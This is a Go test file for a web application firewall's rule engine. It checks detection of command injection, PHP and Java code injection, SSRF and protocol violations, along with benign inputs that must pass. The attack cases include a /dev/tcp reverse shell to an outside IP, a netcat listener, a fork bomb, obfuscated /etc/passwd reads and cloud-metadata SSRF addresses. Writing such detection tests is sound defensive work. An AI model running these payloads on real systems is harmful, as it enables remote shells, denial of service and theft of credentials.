package inspect_test

import (
	"strings"
	"testing"

	"github.com/rampartsec/rampart/internal/inspect"
)

// TestShellAndPHPRules: each new command and PHP injection rule flags the
// shapes it is for, with its own rule id and attack type, at level 2, and
// lets the text those shapes resemble through.
func TestShellAndPHPRules(t *testing.T) {
	in := mustCompile(t, inspect.Config{Enabled: true, Common: true, Webshell: true, Level: 2, CheckAllHeaders: true})
	attacks := []struct{ rule, attack, value string }{
		{"120010", inspect.AttackCmdi, "x;perf --version"},
		{"120010", inspect.AttackCmdi, ";flock -u / whoami"},
		{"120010", inspect.AttackCmdi, "cd /;cd etc;fold passwd"},
		{"120016", inspect.AttackCmdi, "time sh -c whoami"},
		{"120016", inspect.AttackCmdi, "ti''me curl coreruleset.org"},
		{"120010", inspect.AttackCmdi, ";gcc10.1<<<void main(){}"},
		{"120016", inspect.AttackCmdi, "cu$@rl google.com"},
		{"120016", inspect.AttackCmdi, `""p""y""t""h""o""n""3"".""1""0"" ""c""m""d""`},
		{"120016", inspect.AttackCmdi, "pi``ng 127.0.0.1"},
		{"120010", inspect.AttackCmdi, "www.google.com;c$!at+/et$!c/pas$!swd"},
		{"120016", inspect.AttackCmdi, "Invoke-WebRequest http://example.com/path/file.ps1"},
		{"120010", inspect.AttackCmdi, "image.jpg&bcdboot/r file.txt"},
		{"120010", inspect.AttackCmdi, "d=/dev&&(sh)0>$d/tcp/51.15.142.164/777"},
		{"120016", inspect.AttackCmdi, "bin/visudo"},
		{"120011", inspect.AttackCmdi, `IF "%~1" == "%~2" (EXIT /B 0) ELSE (EXIT /B 1)`},
		{"120011", inspect.AttackCmdi, "if /i a==b foo"},
		{"120011", inspect.AttackCmdi, "IF ERRORLEVEL 3 IF NOT ERRORLEVEL 4 ..."},
		{"120012", inspect.AttackCmdi, "{l,-lh}s"},
		{"120012", inspect.AttackCmdi, "c{a,oun}t"},
		{"120012", inspect.AttackCmdi, "~-1"},
		{"120013", inspect.AttackCmdi, "\r\nMAIL FROM:<a@b.com>"},
		{"120013", inspect.AttackCmdi, "\r\na001 STATUS INBOX (MESSAGES)"},
		{"120013", inspect.AttackCmdi, "\r\nAPOP corerulest 7d0a3bd8e5b2abcfb3e256633c23b891"},
		{"120014", inspect.AttackCmdi, "1;.sh whoami"},
		{"120014", inspect.AttackCmdi, ";\n.databases"},
		{"120015", inspect.AttackCmdi, `$SHELL -c "echo hi"`},
		{"120015", inspect.AttackCmdi, "$[2+2]"},
		{"120015", inspect.AttackCmdi, "a=nc&&$a -nlvp 555"},
		{"120015", inspect.AttackCmdi, "f(){ f & f; };f"},
		{"130028", inspect.AttackVuln, "exec #comment\r\n (blah)"},
		{"130028", inspect.AttackVuln, "I don't like gzuncompress/*comment*/()"},
		{"130028", inspect.AttackVuln, "ZlIb_DeCoDe=(bla)"},
		{"130028", inspect.AttackVuln, "get_defined_vars()[0]"},
		{"130028", inspect.AttackVuln, "system(whoami)"},
		{"130022", inspect.AttackVuln, "printf(foo)"},
		{"130022", inspect.AttackVuln, "strrev( )"},
		{"130023", inspect.AttackVuln, "opcache.jit_max_polymorphic_calls=50"},
		{"130023", inspect.AttackVuln, "allow_url_include = 1"},
		{"130024", inspect.AttackVuln, "${'ff'}"},
		{"130024", inspect.AttackVuln, "$ {$a}"},
		{"130025", inspect.AttackVuln, "$_aB_4c[5]['d'] /*lol*/ (17)"},
		{"130025", inspect.AttackVuln, "$foo->$funcname()"},
		{"130026", inspect.AttackVuln, `"\x73y\x73tem"(ls);`},
		{"130026", inspect.AttackVuln, "('system')('whoami')"},
	}
	for _, a := range attacks {
		v := in.Inspect(param(a.value))
		if !v.Detected() || v.RuleID != a.rule || v.Attack != a.attack {
			t.Errorf("%q: rule %s %s, want rule %s %s", a.value, v.RuleID, v.Attack, a.rule, a.attack)
		}
	}
	for _, text := range []string{
		"Hex & Base64 converter", "time cat videos", "python 3.12 release notes", "Tom & Jerry; top 10 episodes",
		"Cut orange quarters into crosswise slices about 1/8-inch thick.", "date 2024-01-01", "photo.jpg; 2 files",
		"if (a == b) { return; }", "{first: 1, last: 2}", "a{1,3}", "~", "Shopping\r\nlist of things",
		"The solar system (which has 8 planets)", "file(s) attached", "file(2).jpg", "Trim (optional)",
		"price=12", "engine=v8 turbo", "${price}", "$5 (five dollars)", "see notes (above).",
		"data:image/png;base64,iVBORw0KGgo=", "sleep; eat; repeat", "R&D; ls. staff", "System (optional)", "memory_limit=unknown value",
		"Mozilla/5.0 (compatible; Wget/1.21.4)", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
		"gzip, deflate, br, zstd", `"Chromium";v="124", "Google Chrome";v="124"`, "text/html;q=0.9,*/*;q=0.8",
	} {
		if v := in.Inspect(param(text)); v.Detected() {
			t.Errorf("text %q flagged: rule %s %q", text, v.RuleID, v.Excerpt)
		}
		if strings.ContainsAny(text, "\r\n") {
			continue // a line break in a header is a violation of its own (170002)
		}
		if v := in.Inspect(header("X-Note", text)); v.Detected() {
			t.Errorf("header %q flagged: rule %s %q", text, v.RuleID, v.Excerpt)
		}
	}
}

// TestJavaClassNamesInXMLMarkup: a Java class or serialization marker in
// the name of an XML element or attribute is not a payload (the Core Rule
// Set's negative cases of 944100-944210); the same name in the text or an
// attribute value is.
func TestJavaClassNamesInXMLMarkup(t *testing.T) {
	in := mustCompile(t, levelConfig(2))
	for _, b := range []string{
		`<?xml version="1.0"?><xml><java.lang.Runtime attribute_name="attribute_value">value</java.lang.Runtime></xml>`,
		`<?xml version="1.0"?><xml><element java.lang.ProcessBuilder="attribute_value">element_value</element></xml>`,
		`<?xml version="1.0"?><xml><ProcessBuilder.evil.invokertransformer a="b">value</ProcessBuilder.evil.invokertransformer></xml>`,
		`<?xml version="1.0"?><xml><element rO0ABQ="attribute_value">element_value</element></xml>`,
	} {
		if v := in.Inspect(body("text/xml", b)); v.Detected() {
			t.Errorf("markup names flagged: rule %s %q in %s", v.RuleID, v.Excerpt, b)
		}
	}
	for _, b := range []string{
		`<?xml version="1.0"?><xml><element>java.lang.Runtime</element></xml>`,
		`<?xml version="1.0"?><xml><element a="java.lang.ProcessBuilder">x</element></xml>`,
		`<?xml version="1.0"?><xml><java.lang.Runtime>x</java.lang.Runtime><e>rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ</e></xml>`,
	} {
		if v := in.Inspect(body("text/xml", b)); !v.Detected() || v.Attack != inspect.AttackVuln {
			t.Errorf("payload in text or attribute value not flagged: %+v in %s", v, b)
		}
	}
}

// TestSSRFAndOtherCodeRules: the internal host names, obfuscated address
// forms, scheme-only and FTP values, and the Node.js, Ruby, Perl and
// template shapes are flagged by their rules at level 2; ordinary URLs,
// phone links and text are not.
func TestSSRFAndOtherCodeRules(t *testing.T) {
	in := mustCompile(t, levelConfig(2))
	attacks := []struct{ rule, attack, value string }{
		{"150006", inspect.AttackRFI, "localhost/"},
		{"150006", inspect.AttackRFI, "http://host.docker.internal:2375/containers/json"},
		{"150006", inspect.AttackRFI, "kubernetes.default.svc.cluster.local/"},
		{"150006", inspect.AttackRFI, "https://metadata.packet.net/userdata"},
		{"150007", inspect.AttackRFI, "http:2852039166"},
		{"150007", inspect.AttackRFI, "http:0xA9FEA9FE"},
		{"150007", inspect.AttackRFI, "ssh://0177.00.00.01"},
		{"150007", inspect.AttackRFI, "http://[fe80::%zone1]"},
		{"150007", inspect.AttackRFI, "http://169。254。169。254/"},
		{"150007", inspect.AttackRFI, "acap://①②⑦.⓪.⓪.①"},
		{"150007", inspect.AttackRFI, "http://google.com:80 &@google.com:80# @127.88.23.245:22/"},
		{"150008", inspect.AttackRFI, "https?"},
		{"150009", inspect.AttackRFI, "ftp://foo.bar"},
		{"130027", inspect.AttackVuln, "console.info(1)"},
		{"130027", inspect.AttackVuln, `console["info"](1)`},
		{"130027", inspect.AttackVuln, `Process.spawn("id")`},
		{"130027", inspect.AttackVuln, "@{   [   system \"id\"   ]   }"},
		{"130027", inspect.AttackVuln, "<% if True %>49<% endif %>"},
		{"130027", inspect.AttackVuln, "data:text/plain;base64,SSBsb3ZlIFBIUAo="},
	}
	for _, a := range attacks {
		v := in.Inspect(param(a.value))
		if !v.Detected() || v.RuleID != a.rule || v.Attack != a.attack {
			t.Errorf("%q: rule %s %s, want rule %s %s", a.value, v.RuleID, v.Attack, a.rule, a.attack)
		}
	}
	for _, text := range []string{
		"https://www.example.com/cart?id=3", "tel:5551234567", "http:0xABCDEF", "http:0xA9.0xFE.0xA9", "localhost is where I test",
		"what is http? a protocol", "data:image/png;base64,iVBORw0KGgo=", "the console (new model)", "my.localhost.example.com",
		"user@example.com", "Process. Next step", "10:30", "https://maps.example/@48.85,2.35,15z",
	} {
		if v := in.Inspect(param(text)); v.Detected() {
			t.Errorf("text %q flagged: rule %s %q", text, v.RuleID, v.Excerpt)
		}
	}
}

// TestRequestRangeAndMethod: the obsolete Request-Range header and a
// method that is no HTTP token are protocol violations with the common
// switch on; ordinary methods, Range and Accept-Encoding are not.
func TestRequestRangeAndMethod(t *testing.T) {
	in := mustCompile(t, inspect.Config{Enabled: true, Common: true, Level: 2, CheckAllHeaders: true})
	bad := []struct {
		rule string
		r    *inspect.Request
	}{
		{"170011", &inspect.Request{Method: "GET", Path: "/a.mp4", Headers: []inspect.Pair{{Name: "request-range", Value: "bytes=0-1023"}}}},
		{"170012", &inspect.Request{Method: "|GET", Path: "/"}},
		{"170012", &inspect.Request{Method: "GET /x", Path: "/"}},
	}
	for _, b := range bad {
		if v := in.Inspect(b.r); v.RuleID != b.rule || v.Attack != inspect.AttackVuln {
			t.Errorf("%s %+v: %+v, want rule %s", b.r.Method, b.r.Headers, v, b.rule)
		}
	}
	for _, m := range []string{"GET", "POST", "PROPFIND", "M-SEARCH", "PATCH"} {
		r := &inspect.Request{Method: m, Path: "/", Headers: []inspect.Pair{{Name: "Range", Value: "bytes=0-1023"},
			{Name: "Accept-Encoding", Value: "gzip;q=1.0, identity; q=0.5, *;q=0"}, {Name: "Accept-Encoding", Value: "gzip"}}}
		if v := in.Inspect(r); v.Detected() {
			t.Errorf("%s with Range flagged: %+v", m, v)
		}
	}
	off := mustCompile(t, inspect.Config{Enabled: true, Webshell: true, Level: 2})
	if v := off.Inspect(bad[0].r); v.Detected() {
		t.Errorf("Request-Range flagged with the common switch off: %+v", v)
	}
}

// TestIncludeLikeParameterWithURL: an absolute URL in a parameter named
// like an include (file=, template=) is a remote inclusion at level 2,
// decoded or raw in the query; the same URL in other parameters, and a
// relative path in an include-like one, are not.
func TestIncludeLikeParameterWithURL(t *testing.T) {
	in := mustCompile(t, levelConfig(2))
	for _, r := range []*inspect.Request{
		{Method: "GET", Path: "/index.php", Params: []inspect.Pair{{Name: "page", Value: "1"}, {Name: "file", Value: "https://example.org/x"}}},
		{Method: "GET", Path: "/index.php", RawQuery: "Template=http%3A%2F%2Fexample.org%2Fhead"},
		{Method: "GET", Path: "/index.php", RawQuery: "include=ftp://files.example.org/a"},
	} {
		if v := in.Inspect(r); v.RuleID != "150010" || v.Attack != inspect.AttackRFI {
			t.Errorf("%+v %q: %+v, want rule 150010", r.Params, r.RawQuery, v)
		}
	}
	for _, r := range []*inspect.Request{
		{Method: "GET", Path: "/share", Params: []inspect.Pair{{Name: "url", Value: "https://example.org/x"}}},
		{Method: "GET", Path: "/", Params: []inspect.Pair{{Name: "file", Value: "reports/2024.pdf"}}},
		{Method: "GET", Path: "/", RawQuery: "return_to=https%3A%2F%2Fexample.org%2F&path=%2Fdocs"},
	} {
		if v := in.Inspect(r); v.Detected() {
			t.Errorf("%+v %q flagged: %+v", r.Params, r.RawQuery, v)
		}
	}
	if v := mustCompile(t, levelConfig(1)).Inspect(&inspect.Request{Method: "GET", Path: "/", Params: []inspect.Pair{{Name: "file", Value: "https://example.org/x"}}}); v.Detected() {
		t.Errorf("level 1 flags an include-like parameter: %+v", v)
	}
}
